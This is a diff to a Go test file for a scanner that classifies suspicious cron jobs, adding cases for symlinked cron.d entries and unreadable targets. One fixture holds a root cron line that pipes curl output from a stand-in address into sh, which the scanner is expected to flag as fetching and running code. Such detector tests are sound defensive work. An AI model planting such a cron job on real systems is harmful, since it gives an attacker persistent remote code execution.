@@ -24,6 +24,10 @@ func TestSchedules(t *testing.T) {
 			"strange[/etc/cron.d/x:3].kind": `"opens a shell to the network"`, "strange[/etc/cron.d/x:4].kind": `"opens a shell to the network"`,
 			"strange[/etc/cron.d/x:5].kind": `"opens a shell to the network"`,
 		}},
+		{"linked into cron.d", "-- /etc/cron.d/z -> /opt/jobs/z --\n-- /opt/jobs/z --\n@daily root curl -s http://192.0.2.9 | sh\n-- /etc/cron.d/gone -> /opt/jobs/gone --\n-- /etc/cron.d/dir -> /opt/jobs --\n", map[string]string{
+			"lines": "1", "strange[/etc/cron.d/z:1].kind": `"fetches and runs"`,
+		}},
+		{"linked to what is closed", "-- /etc/cron.d/z -> /opt/jobs/z --\n-- /opt/jobs/z !permission --\n", map[string]string{"(reason)": "permission denied"}},
 		{"closed", "-- /etc/crontab !permission --\n", map[string]string{"(reason)": "permission denied"}},
 		{"no cron", "", map[string]string{"lines": "0", "strange": "[]"}},
 	} {
